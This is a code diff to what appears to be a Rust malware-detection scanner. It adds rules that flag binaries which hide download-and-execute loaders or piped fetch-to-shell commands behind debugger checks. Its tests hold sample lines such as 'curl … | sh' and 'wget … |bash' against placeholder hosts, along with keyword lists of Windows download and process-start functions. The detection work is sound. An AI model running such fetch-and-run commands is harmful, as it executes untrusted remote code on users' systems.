@@ -32,7 +32,7 @@ rule! {
 }
 
 rule! {
-    /// A program decodes the names of files with the secrets of several programs or people, and the address of a host or
+    /// A program decodes the names of files with somebody's secrets, and the address of a host, or several such names and
     /// the functions that it sends with: what it takes and where it goes are both hidden. Known uses: stealers in tools and
     /// packages. Honest look-alikes: none is known; backups and managers of passwords write down what they read.
     pub(super) SECRETS = "native-decodes-secret-files-and-address" in "cred/files-dev";
@@ -60,6 +60,26 @@ rule! {
     severity: Critical, confidence: Certain,
     title: "Hides both a shell and the address that it has to do with",
     reference: "https://attack.mitre.org/techniques/T1059/004/",
+}
+
+rule! {
+    /// A program decodes the name of a function that fetches, and the address or the function that starts what was fetched:
+    /// a loader of which nothing can be read. Known uses: first stages. Honest look-alikes: protection of licences hides
+    /// names of functions, and asks its server without starting what it says.
+    pub(super) LOADS = "native-decodes-fetch-and-address" in "exec/download-run";
+    severity: Critical, confidence: Certain,
+    title: "Hides both what fetches and what is fetched or started",
+    reference: "https://attack.mitre.org/techniques/T1105/",
+}
+
+rule! {
+    /// A program decodes a command that fetches and has a shell run it, and looks whether somebody debugs it. Known uses:
+    /// loaders in tools and packages. Honest look-alikes: none is known; scripts that are compiled to hide them fetch in the
+    /// open or look for nobody.
+    pub(super) WATCHED = "native-decodes-command-unwatched" in "exec/decode-exec";
+    severity: Critical, confidence: Certain,
+    title: "Hides a command that fetches and runs, unless it is watched",
+    reference: "https://attack.mitre.org/techniques/T1622/",
 }
 
 rule! {
@@ -97,6 +117,10 @@ enum Kind {
     Address,
     /// Functions that send.
     Sends,
+    /// Functions that fetch a file at once.
+    Fetches,
+    /// Functions that start a program.
+    Starts,
 }
 
 const WORDS: &[(Kind, &str)] = &[
@@ -163,6 +187,13 @@ const WORDS: &[(Kind, &str)] = &[
     (Kind::Sends, "InternetOpen"),
     (Kind::Sends, "InternetConnect"),
     (Kind::Sends, "WSAConnect"),
+    (Kind::Fetches, "URLDownloadToFile"),
+    (Kind::Fetches, "URLDownloadToCacheFile"),
+    (Kind::Fetches, "InternetReadFile"),
+    (Kind::Fetches, "WinHttpReadData"),
+    (Kind::Starts, "WinExec"),
+    (Kind::Starts, "ShellExecute"),
+    (Kind::Starts, "CreateProcess"),
     (Kind::Sends, "getaddrinfo"),
     (Kind::Sends, "res_query"),
 ];
@@ -191,7 +222,7 @@ pub(super) struct Decoded;
 
 impl Heuristic for Decoded {
     fn rules(&self) -> &'static [&'static Rule] {
-        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED] }
+        const { &[&HIDDEN, &SECRETS, &DEEDS, &SHELL, &AIMED, &LOADS, &WATCHED] }
     }
 
     fn applies(&self, kind: FileKind) -> bool {
@@ -213,18 +244,29 @@ impl Heuristic for Decoded {
         let count = |kind: Kind| told.iter().filter(|(k, ..)| *k == kind).count();
         let has = |kind: Kind| count(kind) > 0;
         let harm: Vec<Kind> = HARM.iter().copied().filter(|k| has(*k)).collect();
-        if harm.is_empty() {
+        let starts = |name: &str| file.images().iter().any(|i| !i.imported(&[name]).is_empty());
+        let started = has(Kind::Starts)
+            || ["WinExec", "CreateProcess", "ShellExecute", "ShellExecuteEx"].iter().any(|n| starts(n));
+        let loads = has(Kind::Fetches) && has(Kind::Address) && started;
+        if harm.is_empty() && !loads {
             return;
         }
+        let looks = ["ptrace", "IsDebuggerPresent", "CheckRemoteDebuggerPresent"].iter().any(|n| starts(n))
+            || file.view().holds(b"TracerPid");
+        let piped = told.iter().any(|(k, _, _, text)| *k == Kind::Command && has_piped(text));
         let sends = has(Kind::Address) || has(Kind::Sends);
         let acts = [Kind::Shell, Kind::Command, Kind::Memory].into_iter().any(has);
         let unseen = has(Kind::Disguise) || has(Kind::Login) || has(Kind::Kept);
-        let rule = if count(Kind::Secret) > 1 && sends {
+        let rule = if count(Kind::Secret) > 1 && sends || has(Kind::Secret) && has(Kind::Address) {
             &SECRETS
         } else if acts && unseen || count(Kind::Login) > 1 {
             &DEEDS
         } else if has(Kind::Shell) && has(Kind::Address) {
             &SHELL
+        } else if loads {
+            &LOADS
+        } else if piped && looks {
+            &WATCHED
         } else if has(Kind::Address) && (count(Kind::Repository) > 1 || count(Kind::Zone) > 1) {
             &AIMED
         } else {
@@ -267,6 +309,15 @@ fn meanings(bytes: &[u8]) -> Vec<(Kind, &str)> {
         }
     }
     found
+}
+
+/// Whether a command hands what it fetches to a shell.
+fn has_piped(text: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(text);
+    let end = text.rsplit_once('|').map(|(_, end)| end.trim());
+    end.is_some_and(|end| {
+        ["sh", "bash", "dash", "zsh", "/bin/sh", "/bin/bash"].iter().any(|s| end.split(' ').next() == Some(s))
+    })
 }
 
 /// Whether a text is an address: with its scheme, a name of a host, or numbers, each with a port or without.
@@ -357,6 +408,8 @@ mod tests {
             seen(&[secrets[0], secrets[1], ".t.example-sync.invalid"]),
             ["native-decodes-secret-files-and-address"]
         );
+        assert_eq!(seen(&[secrets[0], "t.example-sync.invalid"]), ["native-decodes-secret-files-and-address"]);
+        assert_eq!(seen(&[secrets[0], "WinHttpSendRequest"]), ["native-decodes-hidden-text"]);
         assert_eq!(seen(&secrets), ["native-decodes-hidden-text"]);
         assert_eq!(seen(&["/proc/self/comm", "/bin/sh"]), ["native-decodes-hidden-deeds"]);
         assert_eq!(seen(&["memfd_create", "fexecve", "[kworker/u9:0]"]), ["native-decodes-hidden-deeds"]);
@@ -365,6 +418,17 @@ mod tests {
         let aimed = ["Asia/Tokyo", "Asia/Osaka", "gateway.example.invalid"];
         assert_eq!(seen(&aimed), ["native-decodes-target-and-address"]);
         assert_eq!(seen(&["gw.example.invalid,api.example.invalid|Asia/Tokyo,Asia/Osaka"]), seen(&aimed));
+    }
+
+    #[test]
+    fn hidden_loaders_are_told_and_hidden_licence_servers_are_not() {
+        let texts = ["URLDownloadToFileA", "https://files.example.invalid/a.bin", "WinExec"];
+        assert_eq!(seen(&texts), ["native-decodes-fetch-and-address"]);
+        assert!(seen(&texts[..2]).is_empty() && seen(&texts[1..]).is_empty());
+        let command = "curl -s https://files.example.invalid/a | sh";
+        assert_eq!(seen(&[command]), ["native-decodes-hidden-text"]);
+        assert!(has_piped(command.as_bytes()) && has_piped(b"wget -qO- http://a.invalid/b |bash -s x"));
+        assert!(!has_piped(b"curl -s https://files.example.invalid/a | tar xz") && !has_piped(b"sh a.sh"));
     }
 
     #[test]
